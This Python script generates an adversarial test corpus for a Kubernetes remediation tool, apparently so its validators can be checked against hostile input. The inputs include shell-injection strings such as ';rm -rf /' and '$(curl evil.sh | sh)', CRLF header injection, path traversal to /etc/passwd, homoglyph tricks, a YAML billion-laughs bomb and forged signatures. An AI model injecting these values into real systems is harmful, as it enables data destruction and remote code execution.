#!/usr/bin/env python3
"""Writes tests/adversarial/corpus.jsonl: malformed and hostile inputs for tests/adversarial.rs.

One JSON object a line: {"kind", "name", "input", "expect"} where `expect` is a substring of the
error (or, for http, of the response). Big inputs are described by a `gen` object the test
expands ({"deep": N} / {"pad": N}) so the corpus stays small. Re-run after editing:
    python3 tests/adversarial/generate.py
"""
import json
import pathlib

CASES = []


def case(kind, name, input, expect, **extra):
    CASES.append({"kind": kind, "name": name, "input": input, "expect": expect, **extra})


BASE = {"id": "a1", "source": "NEXUS", "category": "heartbeat", "severity": "high",
        "msg": "Pulse missed", "patch_hint": "restart:VAEL_Core", "ts": "2025-05-30T12:34:56Z"}


def alert_with(**fields):
    a = dict(BASE)
    for k, v in fields.items():
        if v is None:
            a.pop(k, None)
        else:
            a[k] = v
    return json.dumps(a, ensure_ascii=False)


# ---- alerts: ThreatAlert::from_json --------------------------------------------------------
HOSTILE_TOKENS = {
    "space injection": ";rm -rf /",
    "newline": "a\nb",
    "crlf": "a\r\nX-Injected: 1",
    "nul": "a\u0000b",
    "tab": "a\tb",
    "cyrillic homoglyph": "VAEL_C\u043ere",
    "rtl override": "a\u202eb",
    "zero width joiner": "a\u200db",
    "zero width space": "a\u200bb",
    "fullwidth digits": "id\uff11\uff12",
    "bom": "\ufeffa",
    "emoji": "a\U0001f480",
    "shell subst with space": "$(curl evil.sh | sh)",
    "backticks with space": "`reboot now`",
    "empty": "",
}
for field in ["id", "source", "category"]:
    for what, value in HOSTILE_TOKENS.items():
        expect = f"{field} is missing or empty" if value == "" else "printable ASCII"
        case("alert", f"{field}: {what}", alert_with(**{field: value}), expect)
    case("alert", f"{field}: too long", alert_with(**{field: "x" * 200}), f"{field} is 200 bytes")
    case("alert", f"{field}: missing", alert_with(**{field: None}), f"missing field `{field}`")
    for wrong, label in [(1, "integer"), (None, "null"), ([], "sequence"), ({}, "map"), (True, "boolean")]:
        a = dict(BASE)
        a[field] = wrong
        case("alert", f"{field}: wrong type {label}", json.dumps(a), "invalid type")

for sev in ["urgent", "HIGH", "Critical", "", "high ", "h\u0456gh", "9"]:
    case("alert", f"severity {sev!r}", alert_with(severity=sev), "unknown variant")
case("alert", "severity: integer", alert_with(severity=5), "malformed alert JSON")
# A missing severity is info (the original's default): see tests/seed.rs, not hostile.

for ts in ["yesterday", "2025-13-01T00:00:00Z", "2025-05-30 12:34:56", "1717000000", "2025-05-30T25:00:00Z",
           "2025-05-30T12:34:56Z; rm -rf /", "\uff12\uff10\uff12\uff15-05-30T12:34:56Z", ""]:
    case("alert", f"ts {ts!r}", alert_with(ts=ts), "RFC 3339")
case("alert", "ts: integer", alert_with(ts=1717000000), "invalid type")
case("alert", "msg over 4096 bytes", alert_with(msg="m" * 5000), "msg is 5000 bytes")
case("alert", "msg: object", alert_with(msg={"$gt": ""}), "invalid type")
case("alert", "patch_hint: integer", alert_with(patch_hint=7), "invalid type")

HINT_IN_ALERT = {
    "path traversal target": ("restart:../etc/passwd", "invalid target"),
    "shell in target": ("restart:VAEL_Core;rm -rf /", "invalid target"),
    "cyrillic o in target": ("restart:VAEL_C\u043ere", "invalid target"),
    "newline in env value": ("edit_env:VAEL_Core:LOG_LEVEL=debug\nEVIL=1", "control character"),
    "unknown action": ("reboot:VAEL_Core", "unknown action"),
}
for what, (hint, expect) in HINT_IN_ALERT.items():
    case("alert", f"patch_hint {what}", alert_with(patch_hint=hint), expect)

# A new plain top-level field (a newer NEXUS) is ignored with a warning; misspellings of known
# fields and keys that are not plain identifiers are refused.
for field in ["Id", "patchHint", "id\u200b", "patch-hint", "a b"]:
    a = dict(BASE)
    a[field] = "x"
    case("alert", f"unknown field {field!r}", json.dumps(a, ensure_ascii=False), "unknown field")
# Duplicate keys are refused on every intake, naming the key.
case("alert", "duplicate id key", '{"id":"a1","id":"a2","source":"NEXUS","category":"c","severity":"high"}',
     'duplicate key "id"')
case("alert", "duplicate severity key", '{"id":"a1","source":"NEXUS","category":"c","severity":"info","severity":"critical"}',
     'duplicate key "severity"')
case("alert", "not JSON", "id=a1&severity=high", "malformed alert JSON")
case("alert", "empty", "", "malformed alert JSON")
case("alert", "null", "null", "invalid type: null")
case("alert", "string", '"alert"', "invalid type: string")
case("alert", "number", "42", "invalid type: integer")
case("alert", "truncated", alert_with()[:-10], "malformed alert JSON")
case("alert", "trailing garbage", alert_with() + "{}", "trailing characters")
case("alert", "lone surrogate", '{"id":"\\ud800","source":"N","category":"c","severity":"high"}', "malformed alert JSON")
case("alert", "NaN", '{"id":"a","source":"N","category":"c","severity":NaN}', "malformed alert JSON")
case("alert", "single quotes", "{'id':'a'}", "malformed alert JSON")
case("alert", "comment", '/* hi */' + alert_with(), "malformed alert JSON")
case("alert", "deep nesting in msg (30k)", None, "malformed alert JSON",
     gen={"deep": 30000, "template": '{"id":"a","source":"N","category":"c","severity":"high","msg":{DEEP}}'})
case("alert", "deep nesting 100k (oversize)", None, "max 65536",
     gen={"deep": 100000, "template": '{"id":"a","source":"N","category":"c","severity":"high","msg":{DEEP}}'})
case("alert", "10 MB msg", None, "max 65536",
     gen={"pad": 10 * 1024 * 1024, "template": '{"id":"a","source":"N","category":"c","severity":"high","msg":"{PAD}"}'})
case("alert", "65 KiB of whitespace", None, "max 65536",
     gen={"pad": 66000, "pad_char": " ", "template": "{PAD}" + alert_with()})

# ---- hints: PatchHint::parse ---------------------------------------------------------------
BAD_HINTS = [
    ("", "expected ACTION:TARGET"),
    ("restart", "expected ACTION:TARGET"),
    ("restart:", "invalid target"),
    (":VAEL_Core", "unknown action"),
    ("RESTART:VAEL_Core", "unknown action"),
    ("restart :VAEL_Core", "unknown action"),
    ("reloadFlask:VAEL_UI", "unknown action"),
    ("rollback:VAEL_Core", "unknown action"),
    ("delete_pod:VAEL_Core", "unknown action"),
    ("exec:VAEL_Core", "unknown action"),
    ("restart:../x", "invalid target"),
    ("restart:..", "invalid target"),
    ("restart:/etc/passwd", "invalid target"),
    ("restart:VAEL_Core/../Sentinel", "invalid target"),
    ("restart:VAEL_Core;rm -rf /", "invalid target"),
    ("restart:$(reboot)", "invalid target"),
    ("restart:`id`", "invalid target"),
    ("restart:VAEL_Core && curl x", "invalid target"),
    ("restart:VAEL_Core|sh", "invalid target"),
    ("restart:VAEL_Core\n", "invalid target"),
    ("restart:VAEL_Core\r\nX: y", "invalid target"),
    ("restart:VAEL_Core\u0000", "invalid target"),
    ("restart:VAEL_C\u043ere", "invalid target"),
    ("restart:\u0412AEL_Core", "invalid target"),
    ("restart:VAEL_Core\u202e", "invalid target"),
    ("restart:VAEL\u200d_Core", "invalid target"),
    ("restart:VAEL_Core\u200b", "invalid target"),
    ("restart:\uff36AEL_Core", "invalid target"),
    ("restart:VAEL_Core\uff11", "invalid target"),
    ("restart:_VAEL", "invalid target"),
    ("restart:1VAEL", "invalid target"),
    ("restart:" + "A" * 64, "invalid target"),
    ("restart:VAEL Core", "invalid target"),
    ("restart:VAEL_Core:extra", "invalid target"),
    ("reload_flask:VAEL_UI;kill -9 1", "invalid target"),
    ("edit_env", "expected ACTION:TARGET"),
    ("edit_env:VAEL_Core", "expected edit_env:TARGET:KEY=VALUE"),
    ("edit_env:VAEL_Core:LOG_LEVEL", "expected KEY=VALUE"),
    ("edit_env:VAEL_Core:=debug", "invalid env key"),
    ("edit_env:VAEL_Core:1KEY=v", "invalid env key"),
    ("edit_env:VAEL_Core:KEY-X=v", "invalid env key"),
    ("edit_env:VAEL_Core:KEY X=v", "invalid env key"),
    ("edit_env:VAEL_Core:K\u0415Y=v", "invalid env key"),
    ("edit_env:VAEL_Core:KEY\uff11=v", "invalid env key"),
    ("edit_env:VAEL_Core:LD_PRELOAD\n=x", "invalid env key"),
    ("edit_env:VAEL_Core:$(id)=v", "invalid env key"),
    ("edit_env:VAEL_Core:LOG_LEVEL=debug\nEVIL=1", "control character"),
    ("edit_env:VAEL_Core:LOG_LEVEL=debug\r\nEVIL=1", "control character"),
    ("edit_env:VAEL_Core:LOG_LEVEL=a\u0000b", "control character"),
    ("edit_env:VAEL_Core:LOG_LEVEL=a\u001b[31m", "control character"),
    ("edit_env:VAEL_Core:LOG_LEVEL=a\u007f", "control character"),
    ("edit_env:VAEL_Core:LOG_LEVEL=a\u0085b", "control character"),
    ("edit_env:VAEL_Core:LOG_LEVEL=" + "v" * 5000, "env value too long"),
    ("edit_env:VAEL_Core:LOG_LEVEL=\u202egubed", "invisible or bidirectional"),
    ("edit_env:VAEL_Core:LOG_LEVEL=de\u200dbug", "invisible or bidirectional"),
    ("edit_env:VAEL_Core:LOG_LEVEL=de\u200bbug", "invisible or bidirectional"),
    ("edit_env:VAEL_Core:LOG_LEVEL=\ufeffdebug", "invisible or bidirectional"),
    ("edit_env:VAEL_Core:LOG_LEVEL=\u2066debug\u2069", "invisible or bidirectional"),
    ("edit_env:../x:K=V", "invalid target"),
    ("edit_env:VAEL_C\u043ere:K=V", "invalid target"),
]
for hint, expect in BAD_HINTS:
    case("hint", f"hint {hint[:40]!r}", hint, expect)

# ---- configs: Config::from_yaml --------------------------------------------------------------
T = "targets:\n  VAEL_Core: {deployment: vael-core, config_map: vael-core-env}\n"
BAD_CONFIGS = [
    ("unknown top-level field", "actoins:\n  restart: [VAEL_Core]\n", "unknown field `actoins`"),
    ("unknown whitelist action", "actions:\n  reboot: [VAEL_Core]\n", "unknown field `reboot`"),
    ("whitelist traversal", "actions:\n  restart: [../x]\n", "invalid target name"),
    ("whitelist homoglyph", "actions:\n  restart: [VAEL_C\u043ere]\n", "invalid target name"),
    ("whitelist shell", "actions:\n  restart: ['VAEL;rm -rf /']\n", "invalid target name"),
    ("whitelist undefined target", T + "actions:\n  restart: [Sentinel]\n", "is not defined under targets"),
    ("whitelist not a list", "actions:\n  restart: VAEL_Core\n", "invalid type"),
    # Seed format: without targets, edit_env uses the convention ConfigMap <deployment>-env.
    ("whitelist a number", "actions:\n  edit_env: 3\n", "invalid type"),
    ("edit_env target without config_map", "targets:\n  X: {deployment: x}\nactions:\n  edit_env: [X]\n", "has no targets.X.config_map"),
    ("target name traversal", "targets:\n  ../x: {deployment: x}\n", "invalid target name"),
    ("target name rtl", "targets:\n  \"X\u202e\": {deployment: x}\n", "invalid target name"),
    ("target missing deployment", "targets:\n  X: {namespace: vael}\n", "missing field `deployment`"),
    ("deployment uppercase", "targets:\n  X: {deployment: Vael_Core}\n", "DNS-1123 subdomain"),
    ("deployment traversal", "targets:\n  X: {deployment: ../kube-system}\n", "DNS-1123 subdomain"),
    ("deployment empty", "targets:\n  X: {deployment: ''}\n", "DNS-1123 subdomain"),
    ("deployment too long", "targets:\n  X: {deployment: " + "a" * 254 + "}\n", "DNS-1123 subdomain"),
    ("namespace with dot", "targets:\n  X: {deployment: x, namespace: kube.system}\n", "DNS-1123 label"),
    ("namespace homoglyph", "targets:\n  X: {deployment: x, namespace: \"v\u0430el\"}\n", "DNS-1123 label"),
    ("config_map traversal", "targets:\n  X: {deployment: x, config_map: ../etc}\n", "DNS-1123 subdomain"),
    ("container uppercase", "targets:\n  X: {deployment: x, container: App}\n", "DNS-1123 label"),
    ("config_map_mode unknown", "targets:\n  X: {deployment: x, config_map_mode: shell}\n", "unknown variant `shell`"),
    ("reload_command empty", "targets:\n  X: {deployment: x, reload_command: []}\n", "must hold at least the program"),
    ("reload_command empty arg", "targets:\n  X: {deployment: x, reload_command: [kill, '']}\n", "no NUL or newline"),
    ("reload_command newline", "targets:\n  X: {deployment: x, reload_command: [\"kill\", \"-HUP\\n1\"]}\n", "no NUL or newline"),
    ("reload_command NUL", "targets:\n  X: {deployment: x, reload_command: [\"kill\\0\"]}\n", "no NUL or newline"),
    ("reload_command string", "targets:\n  X: {deployment: x, reload_command: 'kill -HUP 1; rm -rf /'}\n", "invalid type"),
    ("env_keys bad", "targets:\n  X: {deployment: x, env_keys: ['1X']}\n", "invalid env key"),
    ("env_keys injection", "targets:\n  X: {deployment: x, env_keys: ['A=B']}\n", "invalid env key"),
    ("target unknown field", "targets:\n  X: {deployment: x, image: evil}\n", "unknown field `image`"),
    ("severity_map unknown action", "severity_map:\n  high: [reboot]\n", "unknown action \"reboot\""),
    ("severity_map unknown severity", "severity_map:\n  urgent: [restart]\n", "unknown variant `urgent`"),
    # Seed format: `high: restart` (a scalar) and `warn: noop` are accepted.
    ("severity_map a map", "severity_map:\n  high: {a: 1}\n", "did not match"),
    ("log_path list", "log_path: [a]\n", "invalid type"),
    ("audit_max_bytes small", "audit_max_bytes: 10\n", "at least 1024"),
    ("audit_max_bytes negative", "audit_max_bytes: -1\n", "invalid type: integer `-1`"),
    ("audit_keep string", "audit_keep: many\n", "invalid type"),
    ("trusted key not base64", "safety:\n  trusted_keys: {ci: 'not base64!'}\n", "not base64"),
    ("trusted key short", "safety:\n  trusted_keys: {ci: AAAA}\n", "32 bytes"),
    ("require_signature without keys", "safety:\n  require_signature: true\n", "needs at least one key"),
    ("dry_run string", "safety:\n  dry_run: 'yes please'\n", "invalid type"),
    ("budget window 0", "safety:\n  global_budget: {max_actions: 1, window_seconds: 0}\n", "must be at least 1"),
    ("namespace budget window 0", "safety:\n  namespace_budget: {max_actions: 1, window_seconds: 0}\n", "must be at least 1"),
    ("budget unknown field", "safety:\n  global_budget: {max_actions: 1, burst: 9}\n", "unknown field `burst`"),
    ("budget negative", "safety:\n  global_budget: {max_actions: -1}\n", "invalid type: integer `-1`"),
    ("backup_history 0", "safety:\n  backup_history: 0\n", "must keep at least 1 backup"),
    ("on_throttle unknown", "safety:\n  on_throttle: maybe\n", "unknown variant `maybe`"),
    ("safety unknown field", "safety:\n  disable_whitelist: true\n", "unknown field `disable_whitelist`"),
    ("rule empty name", "rules:\n  - name: ''\n", "must not be empty"),
    ("rule missing name", "rules:\n  - actions: [restart]\n", "missing field `name`"),
    ("rule edit_env with a target", "rules:\n  - name: r\n    actions: [\"edit_env:VAEL_Core\"]\n", "edit_env takes its target, key and value from the patch hint"),
    ("rule unknown action", "rules:\n  - name: r\n    actions: [explode]\n", "unknown action \"explode\""),
    ("rule target traversal", "rules:\n  - name: r\n    actions: ['restart:../x']\n", "invalid target name"),
    ("rule restart_mode unknown", "rules:\n  - name: r\n    restart_mode: nuke\n", "unknown variant `nuke`"),
    ("rule min_severity unknown", "rules:\n  - name: r\n    min_severity: extreme\n", "unknown variant `extreme`"),
    ("defaults timeout negative", "defaults:\n  rollout_timeout_seconds: -5\n", "invalid type: integer `-5`"),
    ("defaults unknown field", "defaults:\n  shell: /bin/sh\n", "unknown field `shell`"),
    ("ingest cooldown > day", "ingest:\n  cooldown_seconds: 100000\n", "more than a day"),
    ("ingest max_body_bytes huge", "ingest:\n  max_body_bytes: 1000000000\n", "outside 1 KiB..16 MiB"),
    ("ingest max_batch 0", "ingest:\n  max_batch: 0\n", "outside 1..10000"),
    ("ingest reconnect 0", "ingest:\n  reconnect_max_ms: 0\n", "outside 100..600000"),
    ("ingest unknown field", "ingest:\n  tokens: [abc]\n", "unknown field `tokens`"),
    ("notify channel whitespace", "notify:\n  channel: 'a b'\n", "without whitespace"),
    ("notify namespace", "notify:\n  namespace: antibody\n", "start with '/'"),
    ("notify redis scheme", "notify:\n  socketio_message_queue: 'file:///etc/passwd'\n", "not a Redis URL"),
    ("notify webhook scheme", "notify:\n  webhooks:\n    - url: 'file:///etc/shadow'\n", "webhooks are http:// or https://"),
    ("notify webhook not url", "notify:\n  webhooks:\n    - url: 'not a url'\n", "is not a URL"),
    ("yaml list document", "- a\n- b\n", "invalid type: sequence"),
    ("yaml scalar document", "just text\n", "invalid type: string"),
    ("yaml two documents", "actions: {}\n---\nactions: {}\n", "more than one document"),
    ("yaml tab indentation", "actions:\n\trestart: [X]\n", "found character that cannot start any token"),
    ("yaml duplicate key", "log_path: a\nlog_path: b\n", "duplicate"),
    ("yaml billion laughs", "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
     "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
     "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n", "unknown field `a`"),
    ("yaml unclosed quote", "log_path: \"unterminated\n", "found unexpected end of stream"),
]
for name, text, expect in BAD_CONFIGS:
    case("config", name, text, expect)
case("config", "yaml deep nesting 100k", None, "nesting deeper than 64", gen={"deep": 100000, "template": "log_path: {DEEP}\n"})
case("config", "yaml deep nesting 65", None, "nesting deeper than 64", gen={"deep": 65, "template": "log_path: {DEEP}\n"})
case("config", "yaml nesting 1000 under targets", None, "nesting deeper than 64", gen={"deep": 1000, "template": "targets: {DEEP}\n"})
case("config", "2 MiB config", None, "max 1048576", gen={"pad": 2 * 1024 * 1024, "pad_char": "#", "template": "{PAD}\n"})

# ---- plans: signing::verify + admission::admit (config requires signatures, key "ci") -------
R = {"actions": [{"type": "restart", "target": "VAEL_Core"}]}
SIGNED = {"mode": "sign", "key": "trusted", "key_name": "ci"}
PLANS = [
    ("unsigned", R, {"mode": "none"}, "unsigned"),
    ("signed by unknown key name", R, {**SIGNED, "key_name": "intruder"}, "unknown key \"intruder\""),
    ("signed by an untrusted key under a trusted name", R, {**SIGNED, "key": "untrusted"}, "does not match"),
    ("replayed onto another plan name", R, {**SIGNED, "signed_name": "other-plan"}, "does not match"),
    ("replayed into another namespace", R, {**SIGNED, "signed_namespace": "elsewhere"}, "does not match"),
    ("signed a different spec (Sentinel)", R, {**SIGNED, "signed_spec": {"actions": [{"type": "restart", "target": "Sentinel"}]}}, "does not match"),
    ("dryRun flipped after signing", R, {**SIGNED, "signed_spec": {**R, "dryRun": True}}, "does not match"),
    ("action appended after signing", {"actions": R["actions"] + [{"type": "reloadFlask", "target": "VAEL_UI"}]}, {**SIGNED, "signed_spec": R}, "does not match"),
    ("signature truncated", R, {**SIGNED, "mangle": "truncate"}, "malformed signature"),
    ("signature bit flipped", R, {**SIGNED, "mangle": "flip"}, "does not match"),
    ("signature with appended bytes", R, {**SIGNED, "mangle": "append"}, "malformed signature"),
    ("wrong algorithm rsa", R, {**SIGNED, "mangle": "alg:rsa"}, "malformed signature"),
    ("wrong algorithm ED25519 uppercase", R, {**SIGNED, "mangle": "alg:ED25519"}, "malformed signature"),
    ("algorithm none", R, {"mode": "raw", "annotation": "none:ci:"}, "malformed signature"),
    ("empty annotation", R, {"mode": "raw", "annotation": ""}, "malformed signature"),
    ("annotation without key", R, {"mode": "raw", "annotation": "ed25519:ci"}, "malformed signature"),
    ("annotation not base64", R, {"mode": "raw", "annotation": "ed25519:ci:!!!!"}, "malformed signature"),
    ("annotation all zero signature", R, {"mode": "raw", "annotation": "v2:ed25519:ci:4102444800:" + "0" * 32 + ":" + "A" * 86 + "=="}, "does not match"),
    ("old v1 signature (no expiry, no nonce)", R, {"mode": "raw", "annotation": "ed25519:ci:" + "A" * 86 + "=="}, "old v1 form"),
    ("key name homoglyph", R, {**SIGNED, "key_name": "c\u0456"}, "unknown key"),
    ("key name with newline", R, {"mode": "raw", "annotation": "ed25519:ci\n:AAAA"}, "malformed signature"),
    # Validly signed, still refused by admission: a signature is no licence.
    ("signed, target not whitelisted", {"actions": [{"type": "reloadFlask", "target": "Sentinel"}]}, SIGNED, "does not whitelist"),
    ("signed, unknown target", {"actions": [{"type": "restart", "target": "Intruder"}]}, SIGNED, "unknown target"),
    ("signed, target traversal", {"actions": [{"type": "restart", "target": "../x"}]}, SIGNED, "invalid target name"),
    ("signed, target homoglyph", {"actions": [{"type": "restart", "target": "VAEL_C\u043ere"}]}, SIGNED, "invalid target name"),
    ("signed, no actions", {"actions": []}, SIGNED, "1 to 16 actions"),
    ("signed, 17 actions", {"actions": R["actions"] * 17}, SIGNED, "1 to 16 actions"),
    ("signed, editEnv without value", {"actions": [{"type": "editEnv", "target": "VAEL_Core", "key": "K"}]}, SIGNED, "needs key and value"),
    ("signed, editEnv newline", {"actions": [{"type": "editEnv", "target": "VAEL_Core", "key": "K", "value": "v\nX=1"}]}, SIGNED, "control character"),
    ("signed, editEnv bidi", {"actions": [{"type": "editEnv", "target": "VAEL_Core", "key": "K", "value": "\u202ev"}]}, SIGNED, "invisible or bidirectional"),
    ("signed, editEnv bad key", {"actions": [{"type": "editEnv", "target": "VAEL_Core", "key": "A=B", "value": "v"}]}, SIGNED, "invalid env key"),
    ("signed, restart with key", {"actions": [{"type": "restart", "target": "VAEL_Core", "key": "K", "value": "v"}]}, SIGNED, "only editEnv takes key"),
    ("signed, rollback without backup", {"actions": [{"type": "rollback", "target": "VAEL_Core"}]}, SIGNED, "rollback needs the backup"),
    ("signed, rollback backup traversal", {"actions": [{"type": "rollback", "target": "VAEL_Core", "backup": "../etc"}]}, SIGNED, "DNS-1123"),
    ("signed, editEnv on target without config_map", {"actions": [{"type": "editEnv", "target": "Sentinel", "key": "K", "value": "v"}]}, SIGNED, "does not whitelist"),
    # Not even a spec.
    ("unknown action type", {"actions": [{"type": "exec", "target": "VAEL_Core"}]}, SIGNED, "unknown variant `exec`"),
    ("actions not a list", {"actions": {"type": "restart"}}, SIGNED, "invalid type"),
    ("target integer", {"actions": [{"type": "restart", "target": 1}]}, SIGNED, "invalid type"),
    ("missing actions", {"dryRun": False}, SIGNED, "missing field `actions`"),
]
for name, spec, signature, expect in PLANS:
    case("plan", name, {"namespace": "vael", "name": "p-adversarial", "spec": spec, "signature": signature}, expect)

# ---- http: against a running `antibody run` (REST intake, token file) -----------------------
A = "/api/nexus/alert"
P = "/api/antibody/patch"
M = "/api/alertmanager"
GOOD = alert_with(id="http-1")


def http(name, expect, status, method="POST", path=A, token="valid", body=GOOD, gen=None, **extra):
    top = {"gen": gen} if gen else {}
    if gen:
        body = None
    case("http", name, {"method": method, "path": path, "token": token, "body": body, **extra}, expect, status=status, **top)


for path in [A, P, M]:
    http(f"{path}: no token", "missing bearer token", 401, path=path, token=None)
    http(f"{path}: invalid token", "invalid token", 401, path=path, token="not-the-token-0123456789")
    http(f"{path}: token with CRLF header injection", "invalid token", 401, path=path,
         raw_authorization="Bearer x\r\nX-Injected: 1")
    http(f"{path}: basic auth", "'Bearer <token>'", 401, path=path, raw_authorization="Basic YWRtaW46YWRtaW4=")
    http(f"{path}: text/plain body", "application/json", 415, path=path, content_type="text/plain")
    http(f"{path}: form body", "application/json", 415, path=path, content_type="application/x-www-form-urlencoded")
    http(f"{path}: 10 MB body", "max 262144 bytes", 413, path=path, gen={"pad": 10 * 1024 * 1024, "template": "{PAD}"})
    deep_reason = "not an Alertmanager webhook payload" if path == M else "recursion limit exceeded"
    http(f"{path}: 100k nesting", deep_reason, 400, path=path, gen={"deep": 100000, "template": "{DEEP}"})
    http(f"{path}: GET", "", 405, path=path, method="GET", body="")
    http(f"{path}: PUT", "", 405, path=path, method="PUT")
    http(f"{path}: DELETE", "", 405, path=path, method="DELETE", body="")
http("token of the right length, one char off", "invalid token", 401, token="t0ken-for-the-adversarial-tests-01234567X")
http("token with trailing space smuggled", "invalid token", 401, raw_authorization="Bearer t0ken-for-the-adversarial-tests-012345678 x")
http("token in query string", "missing bearer token", 401, path=A + "?token=t0ken-for-the-adversarial-tests-012345678", token=None)
http("path traversal", "", 404, path="/api/nexus/../antibody/patch")
http("encoded traversal", "", 404, path="/api/nexus/%2e%2e/antibody/patch")
http("unknown path", "", 404, path="/api/nexus/alert/../../../../etc/passwd")
http("alert list over max_batch", "ingest.max_batch", 413, gen={"repeat": 1001, "item": GOOD})
http("empty list", "the alert list is empty", 400, body="[]")
http("manual plan unknown field", "unknown field \"dry_run\"", 400, path=P,
     body=json.dumps({"actions": [{"type": "restart", "target": "Sentinel"}], "dry_run": True}))
http("manual plan name traversal", "DNS-1123", 400, path=P,
     body=json.dumps({"name": "../kube-system/x", "spec": {"actions": [{"type": "restart", "target": "Sentinel"}]}}))
http("manual plan name homoglyph", "DNS-1123", 400, path=P,
     body=json.dumps({"name": "r\u0435start", "spec": {"actions": [{"type": "restart", "target": "Sentinel"}]}}, ensure_ascii=False))
http("manual plan not whitelisted", "does not whitelist", 403, path=P,
     body=json.dumps({"actions": [{"type": "reloadFlask", "target": "Sentinel"}]}))
http("manual plan with forged status", "unknown field \"status\"", 400, path=P,
     body=json.dumps({"spec": {"actions": [{"type": "restart", "target": "Sentinel"}]}, "status": {"phase": "Succeeded"}}))
http("manual plan with annotations smuggled", "unknown field \"metadata\"", 400, path=P,
     body=json.dumps({"metadata": {"annotations": {"antibody.vael.io/signature": "ed25519:ci:AAAA"}}, "spec": {"actions": []}}))
http("alertmanager v3", "version \"3\"", 400, path=M, body=json.dumps({"version": "3", "alerts": []}))
http("alertmanager alerts not a list", "invalid type", 400, path=M, body=json.dumps({"version": "4", "alerts": {}}))
http("invalid UTF-8", "malformed JSON", 400, body_hex="7b226964223a22ff227d")

out = pathlib.Path(__file__).with_name("corpus.jsonl")
with out.open("w", encoding="utf-8") as f:
    for c in CASES:
        f.write(json.dumps(c, ensure_ascii=True) + "\n")
kinds = {}
for c in CASES:
    kinds[c["kind"]] = kinds.get(c["kind"], 0) + 1
print(f"{len(CASES)} cases -> {out} {kinds}")
